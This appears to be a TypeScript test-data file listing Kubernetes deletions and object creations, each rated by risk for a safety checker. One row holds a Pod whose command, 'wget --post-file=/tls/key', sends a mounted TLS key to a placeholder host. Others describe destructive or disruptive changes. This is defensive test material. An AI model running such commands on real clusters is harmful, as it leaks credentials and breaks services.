import { type Row, command, create } from './row.ts';

const pod = (fields: object) => ({ spec: { containers: [{ name: 'x', image: 'example.org/x:1', ...fields }] } });
const template = (fields: object = {}) => ({ template: { ...pod(fields), metadata: { labels: { app: 'x' } } } });

/** Deletions and new objects. */
export const creationRows: readonly Row[] = [
  ...['deployment/web', 'configmap/settings', 'secret/tls', 'service/web', 'networkpolicy/closed'].map(
    (object): Row => ({
      title: `delete ${object}`,
      forms: [command(`delete ${object}`)],
      level: 'high',
      why: 'cannot be undone',
    }),
  ),
  {
    title: 'create a Pod of a foreign image that mounts a Secret and calls out',
    forms: [
      create('v1 Pod', 'x', {
        spec: {
          containers: [
            {
              name: 'x',
              image: 'example.org/x:1',
              command: ['sh', '-c', 'wget --post-file=/tls/key example.org'],
              volumeMounts: [{ name: 'tls', mountPath: '/tls' }],
            },
          ],
          volumes: [{ name: 'tls', secret: { secretName: 'tls' } }],
        },
      }),
    ],
    level: 'high',
    why: 'runs a foreign program',
  },
  {
    title: 'create a Job with envFrom',
    forms: [
      create('batch/v1 Job', 'x', {
        spec: {
          template: {
            spec: {
              restartPolicy: 'Never',
              containers: [{ name: 'x', image: 'example.org/x:1', envFrom: [{ secretRef: { name: 'tls' } }] }],
            },
          },
        },
      }),
    ],
    level: 'high',
    why: 'runs a foreign program',
  },
  {
    title: 'create a Deployment',
    forms: [create('apps/v1 Deployment', 'x', { spec: { selector: { matchLabels: { app: 'x' } }, ...template() } })],
    level: 'high',
    why: 'a new workload',
  },
  {
    title: 'create a CronJob',
    forms: [
      create('batch/v1 CronJob', 'x', {
        spec: {
          schedule: '* * * * *',
          jobTemplate: { spec: { template: { spec: { restartPolicy: 'Never', ...pod({}).spec } } } },
        },
      }),
    ],
    level: 'high',
    why: 'a new workload',
  },
  {
    title: 'create a ResourceQuota of 0 pods',
    forms: [create('v1 ResourceQuota', 'x', { spec: { hard: { pods: '0' } } })],
    level: 'high',
    why: 'no pod starts any more',
  },
  {
    title: 'create an autoscaler with at most 1 replica',
    forms: [
      create('autoscaling/v2 HorizontalPodAutoscaler', 'x', {
        spec: {
          scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'web' },
          maxReplicas: 1,
          metrics: [
            { type: 'Resource', resource: { name: 'cpu', target: { type: 'Utilization', averageUtilization: 80 } } },
          ],
        },
      }),
    ],
    level: 'high',
    why: 'scales the workload down',
  },
  {
    title: 'create an EndpointSlice for another Service',
    forms: [
      create('discovery.k8s.io/v1 EndpointSlice', 'x', {
        metadata: { name: 'x', namespace: 'shop', labels: { 'kubernetes.io/service-name': 'web' } },
        addressType: 'IPv4',
        endpoints: [{ addresses: ['192.0.2.7'] }],
        ports: [{ port: 80 }],
      }),
    ],
    level: 'high',
    why: 'takes traffic of the Service',
  },
  {
    title: 'create an Ingress',
    forms: [
      create('networking.k8s.io/v1 Ingress', 'x', {
        spec: { defaultBackend: { service: { name: 'web', port: { number: 80 } } } },
      }),
    ],
    level: 'high',
    why: 'opens a Service',
  },
  {
    title: 'create a NetworkPolicy',
    forms: [create('networking.k8s.io/v1 NetworkPolicy', 'x', { spec: { podSelector: {} } })],
    level: 'high',
    why: 'cuts off pods',
  },
  {
    title: 'create a Service',
    forms: [create('v1 Service', 'x', { spec: { ports: [{ port: 80 }], selector: { app: 'web' } } })],
    level: 'high',
    why: 'opens pods to traffic',
  },
  {
    title: 'create a RoleBinding',
    forms: [
      create('rbac.authorization.k8s.io/v1 RoleBinding', 'x', {
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'reader' },
        subjects: [{ kind: 'ServiceAccount', name: 'admin', namespace: 'shop' }],
      }),
    ],
    level: 'high',
    why: 'grants permissions',
  },
  {
    title: 'create a Secret',
    forms: [create('v1 Secret', 'x', { stringData: { key: 'value' } })],
    level: 'high',
    why: 'a credential',
  },
  {
    title: 'create a PersistentVolumeClaim',
    forms: [
      create('v1 PersistentVolumeClaim', 'x', {
        spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } },
      }),
    ],
    level: 'high',
    why: 'storage',
  },
  {
    title: 'create a ConfigMap that nothing refers to',
    forms: [create('v1 ConfigMap', 'unused', { data: { a: 'b' } })],
    level: 'high',
    why: 'not known to be needed',
  },
  {
    title: 'create the ConfigMap that the rules find missing',
    forms: [create('v1 ConfigMap', 'missing', { data: { a: 'b' } })],
    level: 'medium',
    why: 'a workload needs it',
  },
  {
    title: 'create a Namespace',
    forms: [{ verb: 'apply', object: { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'x' } } }],
    level: 'high',
    why: 'affects the whole cluster',
  },
];
